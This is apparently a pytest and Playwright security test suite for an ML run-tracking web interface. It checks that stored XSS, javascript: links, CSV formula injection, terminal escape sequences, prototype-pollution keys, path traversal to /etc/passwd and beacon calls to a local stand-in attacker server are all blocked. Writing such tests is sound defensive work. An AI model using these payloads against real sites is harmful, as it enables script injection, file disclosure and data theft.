"""A run whose every name, value, line and file attacks who looks at it: nothing executes, nothing is fetched, nothing is changed.

Each attack sets `pwned` in whatever window it reaches, writes a tag through the API, and calls a server of the attacker.
"""

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import quote, unquote
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from runner.tracking.clock import now
from runner.tracking.logs import LogWriter
from runner.tracking.model import Metric, Run, RunStatus
from tests.server.ui.conftest import Seeded
from tests.services.browser import Watch, settled, watched

each = pytest.mark.parametrize
IMAGE = "<img src=x onerror='top.pwned=1'>"
NAME = f'"><script>top.pwned=1;alert(1)</script>{IMAGE}'
SLASH = "\u2044"  # looks like one, and may be in names
FORMULA = '=HYPERLINK("javascript:top.pwned=1","click")'
LINK = "javascript:top.pwned=1"
ESCAPES = "\x1b[31mred \x1b]8;;javascript:top.pwned=1\x07link\x1b]8;;\x07 \x1b]0;pwned\x07 \x1b[2J\x1b[?1049h \u202etxt"
KEYS = ("__proto__", "constructor", "hasOwnProperty", "toString", "length")  # of every JavaScript object
CONTENTS: dict[str, str] = {
    "page.html": "<!doctype html><body><h1>report</h1>{script}<form action='{uri}/api/2.0/mlflow/runs/set-tag' method=post></form>",
    "drawing.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1">{script}<foreignObject>{image}</foreignObject></svg>',
    "paper.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1);)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    "cells.csv": 'name,value\n"{formula}",2\n"{name}",@SUM(1)\n',
    "notes.md": (
        "# notes\n\n{script}\n\n{image}\n\n[click]({link})\n\n![x]({attacker}/md.png)\n\n<iframe src='{attacker}/md.html'></iframe>\n"
    ),
    "explore.ipynb": (
        '{{"nbformat": 4, "nbformat_minor": 5, "metadata": {{}}, "cells": [{{"id": "a", "cell_type": "markdown", "metadata": {{}},'
        ' "source": ["{image}"]}}, {{"id": "b", "cell_type": "code", "metadata": {{}}, "execution_count": 1, "source": ["1"], "outputs":'
        ' [{{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": ["{image}<script>top.pwned=1</script>"]}}}}]}}]}}'
    ),
    "tree.json": '{{"__proto__": {{"pwned": 1}}, "{image}": "{image}"}}',
    "lines.txt": "{name}\n{escapes}\n",
    "names/" + NAME.replace("/", SLASH) + ".txt": "{name}",
    "names/..%2f..%2fetc%2fpasswd": "not the users",
    "names/a#b?c=d&e.html": "{script}",
    "names/\u202etxt.exe": "{name}",
    "sound.wav": "{script}",
    "weights.safetensors": "{script}",
}
OUTSIDE = "names/users.txt"  # a link
SCRIPT = """<script>
for (const attack of [
  () => { top.pwned = 1; }, () => { parent.pwned = 1; }, () => { opener.pwned = 1; },
  () => { alert(document.cookie); }, () => { localStorage.pwned = 1; }, () => { if (top !== self) top.location = "ATTACKER/left.html"; },
  () => { fetch("ATTACKER/fetched"); }, () => { new Image().src = "ATTACKER/image.png"; },
  () => { navigator.sendBeacon("ATTACKER/beacon"); }, () => { document.forms[0].submit(); },
  () => { fetch("URI/api/2.0/mlflow/runs/set-tag", { method: "POST", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ run_id: "RUN", key: "pwned", value: "1" }) }); },
]) { try { attack(); } catch {} }
window.ran = true;
</script>"""


@dataclass
class Attacker:
    """A server that nobody should call."""

    uri: str
    called: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Hostile:
    run: str
    other: str
    experiment: str


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.called.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name of the base class

        def log_message(self, *_: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as listening:
        server = Attacker(f"http://127.0.0.1:{listening.server_port}")
        thread = threading.Thread(target=listening.serve_forever, args=(0.05,))
        thread.start()
        yield server
        listening.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def hostile(seeded: Seeded, attacker: Attacker) -> Hostile:
    store = seeded.store
    experiment = store.create_experiment(NAME, tags={"mlflow.note.content": f"{IMAGE} [click]({LINK})"}).id
    runs = [_hostile_run(seeded, experiment, attacker, number) for number in range(2)]
    model = NAME.replace("/", SLASH)
    store.registry.create(model, description=f"{IMAGE} [click]({LINK})", tags={"team": IMAGE})
    store.registry.create_version(
        model, "file:///nowhere", run_id=runs[0], run_link=LINK, description=IMAGE, user=NAME
    )
    return Hostile(runs[0], runs[1], experiment)


def _hostile_run(seeded: Seeded, experiment: str, attacker: Attacker, number: int) -> str:
    store = seeded.store
    tags = {
        "mlflow.note.content": f"{IMAGE}\n\n[click]({LINK}) ![x]({attacker.uri}/note.png) <script>top.pwned=1</script>",
        "mlflow.source.name": LINK,
        "mlflow.source.git.repoURL": LINK,
        "mlflow.source.git.commit": NAME,
        "runner.error": NAME,
        "markup": IMAGE,
        **dict.fromkeys(KEYS, "1"),
    }
    params = {
        **dict.fromkeys(KEYS, str(number)),
        "markup": NAME,
        "formula": FORMULA,
        "several": f"a\n{IMAGE}",
    }
    run = store.create_run(
        experiment, name=f"{NAME}{number}", user=NAME, started=now(), params=params, tags=tags
    )
    store.log(run.id, metrics=[Metric(key, step, now(), step) for key in KEYS for step in range(3)])
    _leave_files(seeded, run, attacker)
    store.update_run(run.id, status=RunStatus.FAILED, ended=now())
    return run.id


def _leave_files(seeded: Seeded, run: Run, attacker: Attacker) -> None:
    """Where a program may write them, past what the store would refuse."""
    place = Path(unquote(run.artifact_uri.removeprefix("file://")))
    script = SCRIPT.replace("ATTACKER", attacker.uri).replace("URI", seeded.uri).replace("RUN", run.id)
    given = {
        "script": script,
        "image": IMAGE,
        "formula": FORMULA.replace('"', '""'),
        "name": NAME,
        "escapes": ESCAPES,
    }
    for path, content in CONTENTS.items():
        file = place / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content.format(**given, link=LINK, attacker=attacker.uri, uri=seeded.uri))
    (place / OUTSIDE).symlink_to("/etc/passwd")
    _say(place / "logs")


def _say(directory: Path) -> None:
    directory.mkdir(parents=True)
    output = LogWriter(directory)
    output.write("stdout", f"{NAME}\n{ESCAPES}\n{IMAGE}\r{IMAGE}\n".encode())
    output.write(
        "stderr", b"\xff\xfe\x00 <svg onload=top.pwned=1>\nstep 1: <img src=x onerror=top.pwned=1>\n"
    )
    output.close()


@pytest.fixture(scope="module")
def visitor(browser: Browser, seeded: Seeded) -> Iterator[Page]:
    """Somebody who looks at all of it. What a box refuses is in the console; that it was refused is what the tests are about."""
    watch = Watch(seeded.uri)
    watch.expect("400 GET .*/runs/")  # what is no filter
    watch.expect(r"Content Security Policy|policy .* refuses|sandboxed|Blocked|Failed to fetch$")
    with watched(browser, watch) as context:
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: _closed(dialog, dialogs))
        yield page
        assert dialogs == []


def _closed(dialog: Dialog, dialogs: list[str]) -> None:
    dialogs.append(dialog.message)
    dialog.dismiss()


PAGES: dict[
    str, bool
] = {  # whether the name of the run, the experiment or the model is in the text of the page
    "/": False,
    "/runs?experiment={experiment}": True,
    "/r/{run}": True,
    **{f"/r/{{run}}/{tab}": True for tab in ("metrics", "logs", "code", "environment", "reproduce", "raw")},
    "/compare?runs={run},{other}": True,
    "/compare?runs={run},{other}&tab=logs&times=1": True,
    **{
        f"/compare?runs={{run}},{{other}}&tab=artifacts&same=1&path={path}": True
        for path in ("cells.csv", "lines.txt", "page.html", "drawing.svg")
    },
    "/r/{run}/logs?find=" + quote(NAME): True,
    "/r/{run}/logs#L1": True,
    "/r/{run}/artifacts?path=cells.csv&columns=1&having=name": False,
    "/models": True,
    f"/models/{quote(NAME.replace('/', SLASH))}": True,
    "/runs?q=" + quote(NAME): False,
}


@each("address", PAGES)
def test_what_a_run_says_of_itself_is_text(
    visitor: Page, hostile: Hostile, seeded: Seeded, attacker: Attacker, address: str
) -> None:
    visitor.goto(address.format(**vars(hostile)))
    settled(visitor)

    if PAGES[address]:
        assert visitor.get_by_text("<script>top.pwned=1;alert(1)").count() > 0
    _nothing_happened(visitor, hostile, seeded, attacker)


@each("path", CONTENTS)
def test_a_file_is_looked_at_in_a_box(
    visitor: Page, hostile: Hostile, seeded: Seeded, attacker: Attacker, path: str
) -> None:
    visitor.goto(f"/r/{hostile.run}/artifacts?path={quote(path)}")
    settled(visitor)

    _nothing_happened(visitor, hostile, seeded, attacker)


def test_scripts_of_a_page_run_in_the_box_and_reach_nothing(
    visitor: Page, hostile: Hostile, seeded: Seeded, attacker: Attacker
) -> None:
    visitor.goto(f"/r/{hostile.run}/artifacts?path=page.html")
    expect(visitor.frame_locator("main iframe").get_by_role("heading", name="report")).to_be_visible()

    box = visitor.frames[-1]

    assert box.evaluate("[origin, window.ran]") == ["null", True]
    _nothing_happened(visitor, hostile, seeded, attacker)


@each("path", ["page.html", "drawing.svg", "names/a#b?c=d&e.html"])
def test_a_file_that_is_opened_by_itself_is_in_the_box_too(
    visitor: Page, hostile: Hostile, seeded: Seeded, attacker: Attacker, path: str
) -> None:
    visitor.goto(f"/api/runner/1/runs/{hostile.run}/artifacts/{quote(path)}")

    assert visitor.evaluate("origin") == "null"
    assert attacker.called == []
    assert "pwned" not in seeded.store.run(hostile.run).tags


@each(
    "path",
    [
        "../../../../../../etc/passwd",
        "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "names/%2fetc%2fpasswd",
        "%2fetc/passwd",
        "names/..%5c..%5cetc%5cpasswd",
        "%00/etc/passwd",
        OUTSIDE,
    ],
)
def test_no_path_leads_out_of_the_artifacts(hostile: Hostile, seeded: Seeded, path: str) -> None:
    for call in ("artifacts", "view"):
        with pytest.raises(HTTPError) as refused:
            urlopen(f"{seeded.uri}/api/runner/1/runs/{hostile.run}/{call}/{path}")

        with refused.value as answer:
            assert answer.code in {400, 403, 404}, call
            assert b"root:" not in answer.read()


def _nothing_happened(page: Page, hostile: Hostile, seeded: Seeded, attacker: Attacker) -> None:
    links = page.evaluate(
        "[...document.querySelectorAll('a, area, form, iframe')].map((each) => each.href ?? each.action ?? each.src)"
    )
    assert page.evaluate("window.pwned ?? ({}).pwned ?? localStorage.pwned ?? null") is None
    assert [link for link in links if not link.startswith(("http://", "https://", "about:", "blob:"))] == []
    assert page.locator("#main :is(script, [onerror], [onload], [src=x])").count() == 0
    assert page.url.startswith(seeded.uri)
    assert attacker.called == []
    assert "pwned" not in seeded.store.run(hostile.run).tags
